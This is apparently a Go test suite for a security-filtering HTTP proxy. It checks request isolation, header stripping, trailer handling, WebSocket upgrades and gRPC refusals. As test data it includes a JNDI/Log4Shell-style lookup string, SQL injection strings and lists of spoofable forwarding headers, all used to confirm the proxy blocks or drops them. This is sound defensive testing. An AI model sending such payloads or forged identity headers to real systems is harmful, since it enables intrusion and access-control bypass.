package proxy_test

import (
	"bufio"
	"crypto/sha1"
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"bartizan/internal/listen"
	"bartizan/internal/policy"
	"bartizan/internal/request"
)

// mirror answers with what tells users apart.
func mirror(w http.ResponseWriter, r *http.Request) {
	b, _ := io.ReadAll(r.Body)
	fmt.Fprintf(w, "%q %q %q %s", r.Header["Cookie"], r.Header["Authorization"], r.Header["X-User"], b)
}

// crossed: two users' requests that are equal but for what tells the users apart come
// at once on a new connection, as from a server that renders pages for its users. Each
// is answered with its own. 10,000 pairs.
func (s suite) crossed(t *testing.T) {
	pairs := 10_000
	if raceEnabled || testing.Short() {
		pairs = 500
	}
	g := s.front.start(t, setup{upstreams: []string{upstream(t, "http", mirror)}})
	var workers sync.WaitGroup
	for n := range 8 {
		workers.Go(func() {
			for i := n; i < pairs && !t.Failed(); i += 8 {
				switch i % 5 {
				case 0:
					crossedTLS(t, g, i, true)
				case 1:
					crossedHTTP1(t, g, i)
				default:
					crossedTLS(t, g, i, false)
				}
			}
		})
	}
	workers.Wait()
}

// tellApart are fields in which the pairs differ, one in each pair.
var tellApart = [...]string{"cookie", "authorization", "x-user", "body"}

func ownAnswer(field, user string) string {
	values := map[string]string{field: user}
	quoted := func(name string) string {
		if values[name] == "" {
			return "[]"
		}
		return fmt.Sprintf("[%q]", values[name])
	}
	return quoted("cookie") + " " + quoted("authorization") + " " + quoted("x-user") + " " + values["body"]
}

func crossedTLS(t *testing.T, g *gateway, n int, secure bool) {
	address, scheme := g.plain, "http"
	if secure {
		address, scheme = g.secure, "https"
	}
	f := newFrames(t, address, secure)
	defer f.conn.Close()
	field := tellApart[n/5%len(tellApart)]
	users := [...]string{fmt.Sprint("session=alice-", n), fmt.Sprint("session=bob-", n)}
	for i, user := range users {
		fields := []string{":method", "POST", ":scheme", scheme, ":authority", "a.test", ":path", "/hello",
			"user-agent", "Same", "accept", "*/*"}
		if field == "body" {
			f.begin(uint32(1+2*i), false, fields...)
			f.WriteData(uint32(1+2*i), true, []byte(user))
		} else {
			f.begin(uint32(1+2*i), true, append(fields, field, user)...)
		}
	}
	f.flush(t)
	all := f.until(t, 1, 3)
	for i, user := range users {
		if got, want := string(all[uint32(1+2*i)].body), ownAnswer(field, user); got != want {
			t.Errorf("pair %d, stream %d: got %q; want %q", n, 1+2*i, got, want)
		}
	}
}

func crossedHTTP1(t *testing.T, g *gateway, n int) {
	c, err := net.Dial("tcp", g.plain)
	if err != nil {
		t.Error(err)
		return
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(15 * time.Second))
	field := tellApart[n/5%3]
	users := [...]string{fmt.Sprint("session=alice-", n), fmt.Sprint("session=bob-", n)}
	for _, user := range users {
		io.WriteString(c, head("GET /hello HTTP/1.1\nHost: a.test\nUser-Agent: Same\nAccept: */*\n%s: %s\n", field,
			user))
	}
	in := bufio.NewReader(c)
	for _, user := range users {
		res, err := http.ReadResponse(in, nil)
		if err != nil {
			t.Error(err)
			return
		}
		b, _ := io.ReadAll(res.Body)
		if got, want := string(b), ownAnswer(field, user); got != want {
			t.Errorf("pair %d: got %q; want %q", n, got, want)
		}
	}
}

// crumbs: browsers send each cookie in a field of its own on HTTP/2. They are one
// field upstream, from the first request on.
func (s suite) crumbs(t *testing.T) {
	for _, kind := range []string{"http", "h2c"} {
		up := upstream(t, kind,
			func(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, "%q", r.Header["Cookie"]) })
		g := s.front.start(t, setup{upstreams: []string{up}})
		for _, secure := range []bool{false, true} {
			f := newFrames(t, map[bool]string{false: g.plain, true: g.secure}[secure], secure)
			for id := uint32(1); id <= 5; id += 2 {
				f.begin(id, true, ":method", "GET", ":scheme", "http", ":authority", "a", ":path", "/", "cookie", "a=1",
					"accept", "*/*", "cookie", "b=2", "cookie", "session=abc")
				f.flush(t)
				if got, want := string(f.until(t, id)[id].body), `["a=1; b=2; session=abc"]`; got != want {
					t.Errorf("%s, TLS %v, stream %d: got %s; want %s", kind, secure, id, got, want)
				}
			}
			f.conn.Close()
		}
	}
}

// connectHTTP2: CONNECT's data is no HTTP/1 message for an upstream to read.
func (s suite) connectHTTP2(t *testing.T) {
	for _, mode := range []policy.Mode{policy.Observe, policy.Enforce} {
		u := newRaw(t, nil)
		g := s.front.start(t, setup{upstreams: []string{u.url}, mode: mode})
		for _, target := range [][]string{{":authority", "h1.test:80"}, {":authority", "h1.test:80", ":scheme", "http", ":path", "/x"}} {
			f := newFrames(t, g.plain, false)
			f.begin(1, false, append([]string{":method", "CONNECT"}, target...)...)
			f.WriteData(1, true, []byte("GET /late?q=1%27%20UNION%20SELECT HTTP/1.1\r\nHost: h1.test\r\n\r\n"))
			f.begin(3, true, ":method", "GET", ":scheme", "http", ":authority", "a", ":path", "/next")
			f.flush(t)
			all := f.until(t, 1, 3)
			if got := all[1]; got.fields[":status"] != "501" && !got.reset {
				t.Errorf("CONNECT: got %+v; want 501", got)
			}
			if got := all[3]; got.fields[":status"] != "200" {
				t.Errorf("the stream beside it: got %+v; want 200", got)
			}
			f.conn.Close()
		}
		for _, m := range u.messages() {
			if m.start != "GET /next HTTP/1.1" {
				t.Errorf("upstream got %q", m.start)
			}
		}
	}
}

// forbiddenTrailers: what frames, routes, forwards or proves who sent a message is not
// passed on behind it, declared or not, in observe mode too.
func (s suite) forbiddenTrailers(t *testing.T) {
	bad := []string{
		"X-Forwarded-For", "X-Forwarded-User", "X_Forwarded_For", "X-Real-IP", "x.real.ip", "CF-Connecting-IP",
		"X-Original-URL", "Forwarded", "Host", "Authorization",
		"Cookie", "X-Api-Key", "X-Auth-Token", "Content-Type", "Content-Encoding", "Content-Range", "If-Match",
		"Expect", "Range", "Sec-Fetch-Site",
		"X-HTTP-Method-Override", "Proxy-Authorization", "Bartizan-Pass", "Remote-User", "Client-Cert", "Via",
	}
	good := []string{"X-Checksum", "Content-MD5", "Content-Digest", "Digest", "X-Amz-Checksum-Crc32",
		"X-Amz-Trailer-Signature", "Server-Timing", "Grpc-Status", "Expires"}
	for _, trusted := range [][]string{nil, {"127.0.0.0/8"}} {
		u := newRaw(t, nil)
		g := s.front.start(t, setup{upstreams: []string{u.url}, trusted: trusted})
		for _, declared := range []bool{false, true} {
			for _, name := range append(bad, good...) {
				line := ""
				if declared {
					line = "Trailer: " + name + "\n"
				}
				before := len(u.messages())
				body(t, call(t, g, head("POST / HTTP/1.1\nHost: a\nTransfer-Encoding: chunked\n%s",
					line)+"3\r\nabc\r\n0\r\n"+name+": 192.0.2.66\r\n\r\n"))
				m := u.messages()[before]
				_, rest := m.content()
				passed := strings.Contains(rest, "192.0.2.66")
				if want := strings.Contains(" "+strings.Join(good, " ")+" ", " "+name+" "); passed != want {
					t.Errorf("%s, declared %v, trusted %v: passed on %v (%q); want %v", name, declared, trusted, passed,
						rest, want)
				} else if !want && m.get("Trailer") != "" {
					t.Errorf("%s: announced %q", name, m.get("Trailer"))
				}
			}
		}
	}
}

// exploitTrailer: trailers are judged as fields are, before they go on.
func (s suite) exploitTrailer(t *testing.T) {
	for _, size := range []int{3, 200_000} {
		up := upstream(t, "http", func(w http.ResponseWriter, r *http.Request) {
			if _, err := io.Copy(io.Discard, r.Body); err == nil {
				io.WriteString(w, "ok "+r.Trailer.Get("X-Note"))
			}
		})
		g := s.front.start(t, setup{upstreams: []string{up}, mode: policy.Enforce})
		for _, c := range []struct{ protocol, url string }{{"http1", "http://" + g.plain}, {"h2", "https://" + g.secure}} {
			for note, want := range map[string]int{"fine": 200, "${jndi:ldap://e.example/a}": 403} {
				req, _ := http.NewRequest("POST", c.url,
					struct{ io.Reader }{strings.NewReader(strings.Repeat("x", size))})
				req.Trailer = http.Header{"X-Note": {note}}
				res, err := client(t, c.protocol).Do(req)
				if err != nil {
					t.Fatal(err)
				}
				if res.StatusCode != want {
					t.Errorf("%s, %d bytes, %q: got %d; want %d", c.protocol, size, note, res.StatusCode, want)
				}
				io.Copy(io.Discard, res.Body)
				res.Body.Close()
			}
		}
	}
}

// fieldsThatEnd: what tells of a hop before us ends here, under all its spellings, in
// observe mode too; a trusted proxy may say it under its own name.
func (s suite) fieldsThatEnd(t *testing.T) {
	end := []string{
		"X-Real-IP", "True-Client-IP", "X-Client-IP", "CF-Connecting-IP", "X-Forwarded-Prefix", "X-Forwarded-Port",
		"X-Forwarded-Server", "X-Forwarded-Ssl",
		"X-Forwarded-User", "X-Forwarded-Anything", "X-Original-URL", "X-Rewrite-URL", "Front-End-Https",
		"X-Cluster-Client-IP", "Remote-User", "X-Remote-User",
		"Fastly-Client-IP", "X-Auth-Request-Email", "Client-Cert", "X-SSL-Client-Verify", "Proxy", "Mesh-JA4", "X-Mine",
		"X-Forward-Host", "X-Real-Host", "Incap-Client-IP", "CDN-Src-IP", "X-Amzn-Oidc-Identity",
		"X-MS-Client-Principal-Name", "X-Client-Certificate",
	}
	stay := []string{"X-Request-Id", "Traceparent", "X-Requested-With", "X-Forwarding", "X-Realm", "Original-Filename",
		"X-Original-Filename", "X-Api-Key", "Via", "X-Kept-By-Us"}
	o := func(o *policy.Options) {
		o.FingerprintHeader = "Mesh-JA4"
		o.Forwarding = policy.Forwarding{Add: []string{"x-mine"}, Keep: []string{"X-Forwarded-Kept", "x-kept-*"}}
	}
	for _, trusted := range []bool{false, true} {
		u := newRaw(t, nil)
		conf := setup{upstreams: []string{u.url}, policy: o}
		if trusted {
			conf.trusted = []string{"127.0.0.0/8"}
		}
		g := s.front.start(t, conf)
		gone := func(name string) bool {
			before := len(u.messages())
			body(t, call(t, g, head("GET / HTTP/1.1\nHost: a\n%s: 192.0.2.66\n", name)))
			return u.messages()[before].get(name) != "192.0.2.66"
		}
		for _, name := range end {
			for _, spelt := range []string{name, strings.ToLower(name), strings.ToUpper(name)} {
				if gone(spelt) == trusted {
					t.Errorf("%s: gone %v; want %v, trusted %v", spelt, !trusted, trusted, trusted)
				}
			}
			if alias := strings.ReplaceAll(name, "-", "_"); alias != name && !gone(alias) {
				t.Errorf("%s went upstream, trusted %v", alias, trusted)
			}
		}
		for _, name := range append(stay, "X-Forwarded-Kept") {
			if gone(name) {
				t.Errorf("%s did not go upstream", name)
			}
		}
		for _, name := range []string{"X_Forwarded_For", "x.forwarded.for", "X-Forwarded_Proto", "Content_Length", "Transfer_Encoding"} {
			if !gone(name) {
				t.Errorf("%s went upstream, trusted %v", name, trusted)
			}
		}
	}
}

// handshakes: only what both sides know to be a WebSocket becomes a tunnel.
func (s suite) handshakes(t *testing.T) {
	const key, sum = "dGhlIHNhbXBsZSBub25jZQ==", "s3pPLMBiTxaQ9kYGzzhZRbK+xOo="
	for _, c := range []struct {
		name, request, answer string
		tunnel                bool
	}{
		{"good", "GET / HTTP/1.1\nSec-WebSocket-Key: " + key + "\nSec-WebSocket-Version: 13\n",
			"Sec-WebSocket-Accept: " + sum + "\n", true},
		{"no key", "GET / HTTP/1.1\nSec-WebSocket-Version: 13\n", "Sec-WebSocket-Accept: " + sum + "\n", false},
		{"short key", "GET / HTTP/1.1\nSec-WebSocket-Key: YWJj\nSec-WebSocket-Version: 13\n",
			"Sec-WebSocket-Accept: " + sum + "\n", false},
		{"two keys", "GET / HTTP/1.1\nSec-WebSocket-Key: " + key + "\nSec-WebSocket-Key: " + key + "\nSec-WebSocket-Version: 13\n", "Sec-WebSocket-Accept: " + sum + "\n", false},
		{"no version", "GET / HTTP/1.1\nSec-WebSocket-Key: " + key + "\n", "Sec-WebSocket-Accept: " + sum + "\n",
			false},
		{"old version", "GET / HTTP/1.1\nSec-WebSocket-Key: " + key + "\nSec-WebSocket-Version: 8\n",
			"Sec-WebSocket-Accept: " + sum + "\n", false},
		{"POST", "POST / HTTP/1.1\nSec-WebSocket-Key: " + key + "\nSec-WebSocket-Version: 13\n",
			"Sec-WebSocket-Accept: " + sum + "\n", false},
		{"no accept", "GET / HTTP/1.1\nSec-WebSocket-Key: " + key + "\nSec-WebSocket-Version: 13\n", "", false},
		{"wrong accept", "GET / HTTP/1.1\nSec-WebSocket-Key: " + key + "\nSec-WebSocket-Version: 13\n",
			"Sec-WebSocket-Accept: " + base64.StdEncoding.EncodeToString(make([]byte, sha1.Size)) + "\n", false},
	} {
		u := newRaw(t, says(head("HTTP/1.1 101 Switching Protocols\nConnection: Upgrade, X-Hop\nUpgrade: "+
			"websocket\nX-Hop: 1\nKeep-Alive: timeout=5\n%s", c.answer), true))
		g := s.front.start(t, setup{upstreams: []string{u.url}})
		conn := dial(t, g.plain)
		send(t, conn, head("%s",
			strings.Replace(c.request, "\n", "\nHost: a\nConnection: Upgrade\nUpgrade: websocket\n", 1)))
		m, err := readHead(bufio.NewReader(conn))
		if err != nil {
			t.Fatal(err)
		}
		if got := strings.HasPrefix(m.start, "HTTP/1.1 101"); got != c.tunnel {
			t.Errorf("%s: got %q; want a tunnel: %v", c.name, m.start, c.tunnel)
		}
		if c.tunnel && (m.get("X-Hop")+m.get("Keep-Alive") != "" || m.get("Connection") != "Upgrade" ||
			m.get("Upgrade") != "websocket") {
			t.Errorf("%s: got fields %v; want no hop-by-hop ones but the switch", c.name, m.fields)
		}
		conn.Close()
	}
}

// earlyEnd: an answer that has ended ends for the client, trailers included, while the
// client's side of the stream is open.
func (s suite) earlyEnd(t *testing.T) {
	for _, kind := range []string{"h2c", "https"} {
		for _, trailersOnly := range []bool{false, true} {
			up := upstream(t, kind, func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "application/grpc")
				if trailersOnly {
					w.Header().Set("Grpc-Status", "16")
					return
				}
				io.WriteString(w, envelope("no"))
				w.Header().Set(http.TrailerPrefix+"Grpc-Status", "16")
			})
			g := s.front.start(t, setup{upstreams: []string{up}})
			f := newFrames(t, g.secure, true)
			f.begin(1, false, ":method", "POST", ":scheme", "https", ":authority", "a", ":path", "/pkg.S/M",
				"content-type", "application/grpc", "te", "trailers")
			f.WriteData(1, false, []byte(envelope("first")))
			f.flush(t)
			f.conn.SetDeadline(time.Now().Add(3 * time.Second)) // without the end it takes for ever
			got := f.until(t, 1)[1]
			if got.fields["grpc-status"] != "16" || !got.ended {
				t.Errorf("%s, trailers only %v: got %+v; want status 16 and END_STREAM", kind, trailersOnly, got)
			}
			f.conn.Close()
			eventually(t, "the exchange to end", func() bool { return g.proxy.Stats().InFlight == 0 })
		}
	}
	// A stream of events that ends, to a client that goes on sending.
	up := upstream(t, "h2c", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		io.WriteString(w, "data: 1\n\n")
		http.NewResponseController(w).Flush()
	})
	g := s.front.start(t, setup{upstreams: []string{up}})
	f := newFrames(t, g.plain, false)
	f.begin(1, false, ":method", "POST", ":scheme", "http", ":authority", "a", ":path", "/events")
	f.flush(t)
	f.conn.SetDeadline(time.Now().Add(3 * time.Second))
	if got := f.until(t, 1)[1]; string(got.body) != "data: 1\n\n" || !got.ended {
		t.Errorf("events: got %+v; want the end", got)
	}
	f.conn.Close()
}

func (s suite) noStatus(t *testing.T) {
	for _, status := range []string{"099", "000", "001"} {
		u := newRaw(t, says("HTTP/1.1 "+status+" X\r\nContent-Length: 2\r\n\r\nno", true))
		g := s.front.start(t, setup{upstreams: []string{u.url}})
		refused(t, call(t, g, simple), 502)
		if got := g.proxy.Stats().Panics; got > 0 {
			t.Errorf("%s: got %d panics", status, got)
		}
	}
}

// identityCoding: old upstreams declare a coding that changes nothing.
func (s suite) identityCoding(t *testing.T) {
	for _, line := range []string{"Transfer-Encoding: identity", "transfer-encoding:  Identity ", "TRANSFER-ENCODING: IDENTITY"} {
		for _, interim := range []string{"", "HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n"} {
			text := interim + head("HTTP/1.1 200 OK\nX-A: 1\n%s\nContent-Length: 30\n",
				line) + "Transfer-Encoding: identity\r\n\r"
			for _, step := range []int{len(text), 1, 7} {
				u := newRaw(t, func(c net.Conn, in *bufio.Reader, m *message) bool {
					for i := 0; i < len(text); i += step {
						io.WriteString(c, text[i:min(i+step, len(text))])
					}
					return true
				})
				g := s.front.start(t, setup{upstreams: []string{u.url}})
				c := client(t, "http1")
				for range 2 { // the connection is kept
					res, err := c.Get("http://" + g.plain)
					if got := read(t, res,
						err); res.StatusCode != 200 || got != "Transfer-Encoding: identity\r\n\r" ||
						res.Header.Get("X-A") != "1" {
						t.Errorf("%q in steps of %d: got %d %q; want it passed on", line, step, res.StatusCode, got)
					}
				}
				if u.mu.Lock(); u.conns != 1 {
					t.Errorf("got %d connections; want one that is kept", u.conns)
				}
				u.mu.Unlock()
			}
		}
	}
	for _, lines := range []string{"HTTP/1.1 200 OK\nX-A: 1\nTransfer-Encoding: identity\nContent-Length: 2\n\nok", "HTTP/1.0 200 OK\r\nX-A: 1\nContent-Length: 2\n\r\nok"} {
		u := newRaw(t, says(lines, true)) // old programs end lines in LF alone
		g := s.front.start(t, setup{upstreams: []string{u.url}})
		res := call(t, g, simple)
		if got := read(t, res, nil); res.StatusCode != 200 || got != "ok" || res.Header.Get("X-A") != "1" {
			t.Errorf("%q: got %d %q; want it passed on", lines, res.StatusCode, got)
		}
	}
	for _, status := range []string{"1 X", "1000 X", "10 X"} {
		u := newRaw(t, says(head("HTTP/1.1 %s\nContent-Length: 2\n", status)+"ok", true))
		g := s.front.start(t, setup{upstreams: []string{u.url}})
		refused(t, call(t, g, simple), 502)
	}
	for _, bad := range []string{"gzip", "identity, identity", "xidentity"} {
		u := newRaw(t, says(head("HTTP/1.1 200 OK\nTransfer-Encoding: %s\nContent-Length: 2\n", bad)+"ok", true))
		g := s.front.start(t, setup{upstreams: []string{u.url}})
		refused(t, call(t, g, simple), 502)
	}
}

func (s suite) authorityScheme(t *testing.T) {
	u := newRaw(t, nil)
	g := s.front.start(t, setup{upstreams: []string{u.url}})
	f := newFrames(t, g.plain, false)
	for i, c := range []struct{ authority, status, host string }{
		{"http://127.0.0.1:2379", "200", "127.0.0.1:2379"}, {"HTTPS://a.test", "200", "a.test"}, {"http://", "400", ""},
		{"ftp://a.test", "400", ""}, {"http://a/b", "400", ""},
	} {
		before, id := len(u.messages()), uint32(1+2*i)
		f.begin(id, true, ":method", "GET", ":scheme", "http", ":authority", c.authority, ":path", "/")
		f.flush(t)
		if got := f.until(t, id)[id]; got.fields[":status"] != c.status {
			t.Errorf("%s: got %v; want %s", c.authority, got.fields, c.status)
		} else if c.host != "" && u.messages()[before].get("Host") != c.host {
			t.Errorf("%s: upstream got host %q; want %q", c.authority, u.messages()[before].get("Host"), c.host)
		}
	}
	f.conn.Close()
}

// largeHeadHTTP2: a head that is too large is answered on its stream; the others go on.
func (s suite) largeHeadHTTP2(t *testing.T) {
	u := newRaw(t, nil)
	g := s.front.start(t, setup{upstreams: []string{u.url}})
	f := newFrames(t, g.plain, false)
	id := uint32(1)
	for _, size := range []int{45, 63, 100, 130, 300, 900} {
		fields := []string{":method", "GET", ":scheme", "http", ":authority", "a", ":path", "/"}
		for n := range size {
			fields = append(fields, fmt.Sprintf("x-%d", n), strings.Repeat("y", 1000))
		}
		f.begin(id, true, fields...)
		f.begin(id+2, true, ":method", "GET", ":scheme", "http", ":authority", "a", ":path", "/")
		f.flush(t)
		all := f.until(t, id, id+2)
		if got, next := all[id].fields[":status"], all[id+2].fields[":status"]; got != "431" || next != "200" {
			t.Errorf("%d KiB: got %s, and %s beside it; want 431 and 200", size, got, next)
		}
		id += 4
	}
	f.conn.Close()
}

func (s suite) manyFields(t *testing.T) {
	u := newRaw(t, nil)
	g := s.front.start(t, setup{upstreams: []string{u.url}})
	var lines strings.Builder
	for n := range 400 {
		fmt.Fprintf(&lines, "X-%d: 1\n", n)
	}
	if res := call(t, g, head("GET / HTTP/1.1\nHost: a\n%s", lines.String())); res.StatusCode != 200 {
		t.Errorf("400 fields: got %d; want 200", res.StatusCode)
	}
	g = s.front.start(t, setup{upstreams: []string{u.url}, listen: func(o *listen.Options) {
		o.Head = request.HeadLimits{Bytes: 64 << 10, Fields: 10, Target: 40 << 10}
	}})
	if res := call(t, g, head("GET /%s HTTP/1.1\nHost: a\n", strings.Repeat("x", 38<<10))); res.StatusCode != 200 {
		t.Errorf("a long target: got %d; want 200", res.StatusCode)
	}
	refused(t, call(t, g, head("GET / HTTP/1.1\nHost: a\n%s", strings.Repeat("X: 1\n", 10))), 431)
}

// expectOld: HTTP/1.0 knows no 100 Continue, so nobody is asked to wait for one.
func (s suite) expectOld(t *testing.T) {
	u := newRaw(t, nil)
	g := s.front.start(t, setup{upstreams: []string{u.url}})
	if got := body(t, call(t, g,
		head("POST / HTTP/1.0\nHost: a\nExpect: 100-continue\nContent-Length: 3\n")+"abc")); got != "ok" {
		t.Errorf("got %q; want ok", got)
	}
	if m := u.messages()[0]; m.get("Expect") != "" || m.body != "abc" {
		t.Errorf("upstream got Expect %q and body %q; want abc alone", m.get("Expect"), m.body)
	}
}

// refusedCall checks the refusal of a gRPC call.
func refusedCall(t *testing.T, res *http.Response, status string) {
	t.Helper()
	b := body(t, res)
	message, reference := res.Header.Get("Grpc-Message"), res.Header.Get("Bartizan-Reference")
	if res.StatusCode != 200 || res.Header.Get("Grpc-Status") != status ||
		!strings.HasPrefix(res.Header.Get("Content-Type"), "application/grpc") || b != "" {
		t.Errorf("got %d, %v, %q; want a head with grpc-status %s alone", res.StatusCode, res.Header, b, status)
	}
	if reference == "" || !strings.Contains(message, reference) {
		t.Errorf("got message %q; want the reference %q in it", message, reference)
	}
}

// refusedCalls: a gRPC client is told in gRPC's own words.
func (s suite) refusedCalls(t *testing.T) {
	g := s.front.start(t, setup{upstreams: []string{upstream(t, "h2c", grpcServer)}, mode: policy.Enforce})
	for _, kind := range []string{"application/grpc", "application/grpc+proto", "application/grpc-web+proto", "Application/gRPC"} {
		f := newFrames(t, g.plain, false)
		f.begin(1, false, ":method", "POST", ":scheme", "http", ":authority", "a", ":path", "/pkg.S/M", "content-type",
			kind, "te", "trailers", "x-note", "' UNION SELECT password FROM users--")
		f.flush(t)
		got := f.until(t, 1)[1]
		if got.fields[":status"] != "200" || got.fields["grpc-status"] != "7" || got.fields["content-type"] != kind ||
			len(got.body) > 0 || !got.ended || got.fields["content-length"] != "" {
			t.Errorf("%s: got %+v; want trailers only with status 7", kind, got)
		}
		f.conn.Close()
	}
	down := s.front.start(t, setup{upstreams: []string{"h2c://127.0.0.1:1"}})
	refusedCall(t, grpcCall(t, client(t, "h2"), "https://"+down.secure, strings.NewReader(envelope("x"))), "14")
	if got := down.lines(t, 1)[0].outcome; got.GRPC != 14 || got.Answered {
		t.Errorf("got outcome %+v; want status 14 of our own", got)
	}
}

// wrongPort: who takes one port for the other is told at once, and it is evidence of nothing.
func (s suite) wrongPort(t *testing.T) {
	g := s.front.start(t,
		setup{upstreams: []string{upstream(t, "http", mirror)}, mode: policy.Enforce,
			listen: func(o *listen.Options) { o.HeaderTimeout = time.Minute }})
	for range 10 {
		begun := time.Now()
		_, err := tls.Dial("tcp", g.plain, &tls.Config{InsecureSkipVerify: true})
		if err == nil || !strings.Contains(err.Error(),
			"first record does not look like a TLS handshake") || time.Since(begun) > 5*time.Second {
			t.Errorf("TLS on the plain port: got %v after %v; want an HTTP answer at once", err, time.Since(begun))
		}
		c := dial(t, g.secure)
		send(t, c, simple)
		res, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			t.Fatal(err)
		}
		if got := read(t, res, nil); res.StatusCode != 400 || !strings.Contains(got, "HTTPS") {
			t.Errorf("HTTP on the TLS port: got %d %q; want 400", res.StatusCode, got)
		}
	}
	c := dial(t, g.plain)
	send(t, c, "\x16")
	time.Sleep(20 * time.Millisecond)
	send(t, c, "\x03\x01\x02\x00\x01\x00")
	if b, err := io.ReadAll(c); err != nil || !strings.HasPrefix(string(b), "HTTP/1.1 400") {
		t.Errorf("a hello in pieces: got %q, %v; want 400", b, err)
	}
	if res := call(t, g, simple); res.StatusCode != 200 {
		t.Errorf("then: got %d; want 200", res.StatusCode)
	}
	g.mu.Lock()
	defer g.mu.Unlock()
	if len(g.events) > 0 || len(g.access) != 1 {
		t.Errorf("got events %+v and %d requests; want none and 1", g.events, len(g.access))
	}
}
